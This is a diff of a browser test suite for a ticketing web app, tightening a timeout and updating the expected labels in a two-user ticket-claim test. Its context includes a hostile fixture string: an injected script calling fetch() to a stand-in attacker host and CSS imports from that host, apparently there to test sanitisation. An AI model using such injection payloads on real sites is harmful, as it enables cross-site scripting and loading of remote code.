@@ -11,7 +11,7 @@ from tests.support.installation.http import PASSWORD, ServedInstallation
 
 pytestmark = pytest.mark.asyncio(loop_scope="session")
 
-CLAIM_SEEN_MS = 3000
+CLAIM_SEEN_MS = 1000
 HOSTILE = """
 <script>parent.hacked = 1; fetch("https://evil.test/script")</script>
 <style>@import url(https://evil.test/style.css); body { background: url(https://evil.test/back.png); color: #123456 }
@@ -119,9 +119,8 @@ async def test_two_users_at_one_ticket(site: ServedInstallation, window: Window,
             await page.wait_for_load_state()
         async with ada.expect_navigation():
             await ada.get_by_role("button", name="Assign to me").click()
-        # The other user sees it within a second (CLAIM_SEEN_MS allows for a slow machine).
         await expect(bob.get_by_text("Agent assigned the ticket to themselves")).to_be_visible(timeout=CLAIM_SEEN_MS)
-        await expect(bob.get_by_role("button", name="Take over from Agent")).to_be_visible()
+        await expect(bob.get_by_role("button", name="Take over")).to_be_visible()
         await bob.keyboard.press("a")
         await expect(bob.get_by_text("Ticket assigned to you.")).to_be_visible()
         await expect(ada.get_by_text("Agent took over the ticket from Agent")).to_be_visible(timeout=CLAIM_SEEN_MS)
